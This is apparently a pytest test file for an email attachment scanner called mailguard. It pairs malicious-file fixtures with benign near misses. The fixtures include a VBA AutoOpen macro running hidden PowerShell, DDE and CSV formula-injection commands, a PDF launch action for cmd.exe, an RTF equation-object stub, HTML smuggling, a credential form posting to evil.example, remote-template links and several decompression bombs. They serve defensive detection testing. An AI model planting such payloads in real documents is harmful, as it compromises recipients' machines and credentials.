"""The detectors that look at attachments: real files that must be noticed, and near misses that must not."""

import bz2
import io
import lzma
import random
import struct

import msoffcrypto.format.ooxml as ooxml
import pytest

from mailguard.facts import Bulk
from mailguard.files import examine
from mailguard.mailmaker.writers import formats as makers
from mailguard.mailmaker.writers import locks as lockers
from mailguard.profile import Insider, Profile
from tests.mailguard.maker import facts, fires, strength

MACRO = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -w hidden"\r\nEnd Sub\r\n'
TOTALS = "Sub Total()\r\n  MsgBox 1\r\nEnd Sub\r\n"
FORM = b"<html><form action=https://evil.example/p><input name=a><input type=password></form></html>"
SEARCH = b"<html><form action=/search><input type=hidden></form><p>Programme</p></html>"
BLOB = b"<html><script>new Blob([atob('UEsDBA==')])</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'
RTF = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}"
LINK = makers.pdf(page=makers.pdf_link(b"https://evil.example/d"), words=b"Open")
OWN = makers.pdf(page=makers.pdf_link(b"https://www.stranger.example/d"), words=b"Open")
LAUNCH = makers.pdf(root=b"/OpenAction << /S /Launch /F (cmd.exe) >>")
OPENER = makers.pdf(root=b"/OpenAction [3 0 R /Fit]")
TEMPLATE = {"word/_rels/settings.xml.rels": makers.relations(("attachedTemplate", "https://evil.example/t"))}
STYLES = {"word/_rels/document.xml.rels": makers.relations(("hyperlink", "https://evil.example/t"))}
PACKED = makers.compound({"\x01Ole10Native": makers.package("run.exe", makers.PROGRAM)})
DDE = makers.zipped(
    {"[Content_Types].xml": b"", "word/document.xml": b"<w:instrText>DDEAUTO cmd.exe /c x</w:instrText>"}
)
CODE = makers.picture("https://evil.example/q")
CALENDAR = b"BEGIN:VCALENDAR\nMETHOD:REQUEST\nORGANIZER:mailto:%s\nDESCRIPTION:%s\n%sEND:VCALENDAR\n"
CARD = b"BEGIN:VCARD\nFN:%s\nEMAIL:%s\nEND:VCARD\n"
SELF = b"ada@stranger.example"


def _document(source):
    return makers.document(pieces={"word/vbaProject.bin": makers.macro_project(source)})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MANY = {f"{number}.jpg": b"\xff\xd8\xff" for number in range(70)}
ENTITIES = b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'ha'>" + b"".join(
    b'<!ENTITY %c "&%c;&%c;&%c;">' % (new, old, old, old) for old, new in zip(b"abcd", b"bcde", strict=True)
)
ENTITIES += b"]><svg><text>&e;</text></svg>"
ENDLESS = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 50_000, 50_000) + b"\1" * 400
BROKEN = b"%PDF-1.7\n1 0 obj <</OpenAction <</S /Launch /F (cmd.exe)>> endobj"
FIRES = [
    ("file_executable", "setup.exe", makers.PROGRAM),
    ("file_executable", "photos.zip", makers.zipped({"photo.scr": makers.PROGRAM})),
    ("file_script", "invoice.js", b"WScript.CreateObject('WScript.Shell')"),
    ("file_script", "invoice.hta", b"<html><script>x</script></html>"),
    ("file_shortcut", "invoice.lnk", makers.shortcut("cmd.exe", "/c powershell -enc A")),
    ("file_shortcut", "share.url", b"[InternetShortcut]\nURL=file://evil.example/share/\n"),
    ("file_macro", "a.docm", _document(MACRO)),
    ("file_macro", "a.docm", _document(TOTALS)),
    ("file_remote_template", "a.docx", makers.document(pieces=TEMPLATE)),
    ("file_dde", "a.docx", DDE),
    ("file_dde", "a.csv", b"a,b\n=cmd|'/c calc'!A1,2\n"),
    ("file_object", "a.docx", makers.document(pieces={"word/embeddings/oleObject1.bin": PACKED})),
    ("file_exploit", "a.rtf", RTF),
    ("file_disguised", "invoice.pdf.exe", makers.PROGRAM),
    ("file_disguised", "ecnatsni\u202excod.exe", makers.PROGRAM),
    ("file_disguised", "invoice.pdf", makers.PROGRAM),
    ("file_encrypted_with_password", "a.zip", lockers.old(b"Valbrune7")),
    ("file_disk_image", "a.iso", makers.disk({"a.txt": b"x"})),
    ("file_onenote", "a.one", makers.notebook("open.bat", b"@echo off")),
    ("file_html_form", "a.html", FORM),
    ("file_html_smuggling", "a.html", BLOB),
    ("file_html", "a.html", SEARCH),
    ("file_svg_active", "a.svg", SVG.replace(b"<path", b"<script>alert(1)</script><path")),
    ("file_pdf_link", "a.pdf", LINK),
    ("file_document_link", "a.docx", makers.document(pieces=STYLES)),
    ("file_pdf_active", "a.pdf", LAUNCH),
    ("file_qr", "a.png", CODE),
    ("file_qr", "a.pdf", makers.pdf_of_pictures(CODE)),
    ("file_bomb", "a.zip", makers.zipped({"zeros": b"\x00" * 30_000_000})),
    ("file_unreadable", "a.zip", b"PK\x03\x04" + b"\x00" * 90),
    ("file_bomb", "a.xz", lzma.compress(b"\0" * 40_000_000)),
    ("file_bomb", "a.bz2", bz2.compress(b"\0" * 40_000_000)),
    ("file_bomb", "a.svg", ENTITIES),
    ("file_bomb", "a.png", ENDLESS),
    (
        "file_macro",
        "a.zip",
        makers.zipped(MANY | {"invoice.docm": makers.document(pieces={"word/vbaProject.bin": b"?"})}),
    ),
    ("file_unreadable", "a.zip", makers.zipped({f"{n}.doc": b"x" for n in range(70)})),
    ("file_unreadable", "winmail.dat", b"\x78\x9f\x3e\x22\1\0" + b"\1\6\x90\x08\0\xff\xff\0\0"),
    ("file_unreadable", "a.html", b"<html><p>" + b"x" * 4_100_000 + b"</p></html>"),
    ("file_executable", "setup.msi", OLE + b"\0" * 900),
    ("file_macro", "a.xlsm", makers.document("xl", pieces={"xl/vbaProject.bin": b"\1\2\3"})),
    ("file_pdf_active", "a.pdf", BROKEN),
    ("file_unreadable", "a.vhdx", b"vhdxfile" + b"\x00" * 600),
    ("file_nested", "a.zip", makers.zipped({"b.zip": makers.zipped({"c.js": b"x()"})})),
    ("calendar_stranger", "a.ics", CALENDAR % (b"mallory@evil.example", b"", b"")),
    ("calendar_link", "a.ics", CALENDAR % (SELF, b"https://evil.example/", b"")),
    ("calendar_attachment", "a.ics", CALENDAR % (SELF, b"", b"ATTACH:https://evil.example/a.zip\n")),
]
SILENT = [
    ("file_executable", "minutes.zip", makers.zipped({"minutes.txt": b"MZ is how programs start."})),
    ("file_script", "notes.txt", b"The script of the play: CreateObject."),
    ("file_script", "build.sh", b"#!/bin/sh\nmake\n"),
    ("file_shortcut", "list.txt", b"https://example.org/"),
    ("file_macro", "a.docx", makers.document()),
    ("file_remote_template", "a.docx", makers.document(pieces=STYLES)),
    ("file_dde", "a.csv", b"name,sum\nBob,-12.5\n"),
    ("file_object", "a.docx", makers.document(pieces={"word/embeddings/a.xlsx": makers.document("xl")})),
    ("file_exploit", "a.rtf", b"{\\rtf1 The equation of the budget}"),
    ("file_disguised", "plan.v2.pdf", makers.pdf()),
    ("file_disguised", "photo.png", makers.picture("hello", "JPEG")),
    ("file_encrypted_with_password", "a.zip", makers.zipped({"a.txt": b"x"})),
    ("file_encrypted", "a.zip", lockers.old(b"Valbrune7")),  # the message tells the password
    ("file_disk_image", "a.zip", makers.zipped({"a.txt": b"x"})),
    ("file_onenote", "one.pdf", makers.pdf()),
    ("file_html_form", "a.html", SEARCH.replace(b"<input type=hidden>", b"")),
    ("file_html_smuggling", "a.html", b"<html><script>count(1)</script></html>"),
    ("file_html", "a.txt", b"we met <b>twice</b>"),
    ("file_svg_active", "a.svg", SVG),
    ("file_pdf_link", "a.pdf", OWN),
    ("file_pdf_link", "a.pdf", makers.pdf()),
    ("file_document_link", "a.docx", makers.document(pieces=STYLES, text="word " * 300)),
    ("file_pdf_active", "a.pdf", OPENER),
    ("file_qr", "a.png", makers.picture("https://www.stranger.example/volunteer")),
    ("file_qr", "a.png", makers.picture("BEGIN:VCARD")),
    ("file_bomb", "a.zip", makers.zipped({"zeros": b"\x00" * 10_000})),
    ("file_unreadable", "a.png", CODE[:200]),
    ("file_unreadable", "a.zip", makers.zipped({f"{n}.jpg": b"\xff\xd8\xff" for n in range(90)})),
    ("file_bomb", "a.xz", lzma.compress(b"\0" * 100_000)),
    ("file_bomb", "a.svg", ENTITIES[:80]),
    ("file_executable", "a.xls", OLE + b"\0" * 900),
    ("file_unreadable", "a.dat", b"\x00\x01\x02" * 99),
    ("file_nested", "a.tar.gz", makers.tarred({"a.txt": b"x"})),
    ("calendar_stranger", "a.ics", CALENDAR % (SELF, b"", b"")),
    ("calendar_stranger", "a.ics", (CALENDAR % (b"x@evil.example", b"", b"")).replace(b"REQUEST", b"REPLY")),
    ("calendar_link", "a.ics", CALENDAR % (SELF, b"https://us02web.zoom.us/j/1", b"")),
    ("calendar_attachment", "a.ics", CALENDAR % (SELF, b"", b"ATTACH:CID:a@b\n")),
]
TELLS = "The password is Valbrune7."


def _made(name, data, words=TELLS, **values):
    return facts(words, files=examine("2", name, "", data, words=words), **values)


def _ids(rows):
    return [f"{number}-{row[0]}" for number, row in enumerate(rows)]


@pytest.mark.parametrize(("detector", "name", "data"), FIRES, ids=_ids(FIRES))
def test_a_poisoned_file_is_noticed(detector, name, data):
    assert fires(detector, _made(name, data))


@pytest.mark.parametrize(("detector", "name", "data"), SILENT, ids=_ids(SILENT))
def test_a_near_miss_is_left_alone(detector, name, data):
    assert not fires(detector, _made(name, data))


def test_macros_are_graded_by_what_they_do():
    auto = "Sub AutoOpen()\r\n  MsgBox 1\r\nEnd Sub\r\n"
    grades = [strength("file_macro", _made("a.docm", _document(each))) for each in (TOTALS, auto, MACRO)]
    assert grades == sorted(grades)
    assert len(set(grades)) == 3


def test_a_locked_file_without_a_password_in_the_message_is_another_matter():
    made = _made("a.zip", lockers.old(b"Valbrune7"), "The file you asked for.")
    assert fires("file_encrypted", made) == ["a.zip is locked."]
    assert not fires("file_encrypted_with_password", made)


def test_the_password_that_excel_tries_by_itself_gives_a_locked_book_away():
    noise, out = random.Random(1).randbytes(9_000), io.BytesIO()
    ooxml.OOXMLFile(io.BytesIO(makers.document("xl", {"noise.bin": noise}))).encrypt("VelvetSweatshop", out)
    (said,) = fires("file_encrypted_with_password", _made("a.xlsx", out.getvalue(), "Hello"))
    assert "by itself" in said


def test_a_list_of_developers_may_send_pages_and_invitations():
    bulk = Bulk(has_post=True)
    assert not fires("file_html", _made("report.html", SEARCH, bulk=bulk))
    assert not fires("calendar_stranger", _made("a.ics", CALENDAR % (b"x@evil.example", b"", b""), bulk=bulk))


def test_a_card_that_gives_a_colleague_another_address_is_noticed():
    profile = Profile(insiders=(Insider("Nora Valbrune", ("nora@valbrune.example",)),))
    made = _made("nora.vcf", CARD % (b"Valbrune, Nora", b"nora@evil.example"), profile=profile)
    assert fires("contact_changed", made) == ["The card of Valbrune, Nora says nora@evil.example."]
    right = _made("nora.vcf", CARD % (b"Nora Valbrune", b"nora@valbrune.example"), profile=profile)
    assert not fires("contact_changed", right)
    unknown = _made("x.vcf", CARD % (b"Xavier Unknown", b"x@evil.example"), profile=profile)
    assert not fires("contact_changed", unknown)


def test_the_authors_own_card_may_hold_another_address_and_says_little():
    made = _made("ada.vcf", CARD % (b"Ada Stranger", b"ada@elsewhere.example"))
    assert 0 < strength("contact_changed", made) < 0.5
    assert not fires("contact_changed", _made("ada.vcf", CARD % (b"Ada Stranger", SELF)))


@pytest.mark.parametrize(
    "detector", sorted({row[0] for row in FIRES} | {"file_encrypted", "contact_changed"})
)
def test_no_file_no_finding(detector):
    assert not fires(detector, facts("No file here."))
